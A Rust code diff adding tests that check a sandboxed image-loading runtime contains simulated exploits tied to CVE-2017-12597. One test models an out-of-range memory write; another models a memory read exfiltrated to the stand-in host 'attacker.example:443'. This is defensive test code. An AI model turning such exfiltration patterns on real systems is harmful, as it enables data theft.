@@ -236,6 +236,52 @@ fn protected_template_survives_memory_corruption_exploit() {
     assert!(rt.exploit_log.iter().all(|r| !r.outcome.achieved()));
 }
 
+/// Runs the action `payload` builds (from an address mapped in the
+/// loading agent) through a crafted image and checks that it is
+/// contained: the call returns, the host keeps running, and no action
+/// achieved anything.
+fn assert_wild_payload_contained(payload: impl FnOnce(u64) -> ExploitAction) {
+    let mut rt = rt_with(Policy::freepart());
+    seed_image(&mut rt, "/warmup.simg", 16);
+    let img = rt
+        .call("cv2.imread", &[Value::from("/warmup.simg")])
+        .unwrap();
+    // The loaded Mat stays home in the loading agent.
+    let (mapped, _) = rt
+        .objects
+        .meta(img.as_obj().unwrap())
+        .unwrap()
+        .buffer
+        .unwrap();
+    let payload = ExploitPayload {
+        cve: "CVE-2017-12597".into(),
+        actions: vec![payload(mapped.0)],
+    };
+    seed_evil_image(&mut rt, "/evil.simg", &payload);
+    let _ = rt.call("cv2.imread", &[Value::from("/evil.simg")]);
+    assert!(rt.kernel.is_running(rt.host_pid()));
+    assert!(!rt.exploit_log.is_empty());
+    assert!(rt.exploit_log.iter().all(|r| !r.outcome.achieved()));
+}
+
+#[test]
+fn exploit_write_past_the_top_of_memory_is_contained() {
+    // `addr + len` passes `u64::MAX`: an unmapped range, not a wrapped one.
+    assert_wild_payload_contained(|_| ExploitAction::WriteMem {
+        addr: u64::MAX - 3,
+        bytes: vec![0x41; 16],
+    });
+}
+
+#[test]
+fn exploit_read_of_a_wrapping_length_is_contained() {
+    assert_wild_payload_contained(|mapped| ExploitAction::ExfilMem {
+        addr: mapped,
+        len: u64::MAX,
+        dest: "attacker.example:443".into(),
+    });
+}
+
 #[test]
 fn dos_exploit_crashes_only_the_loading_agent() {
     let mut rt = rt_with(Policy::no_restart());
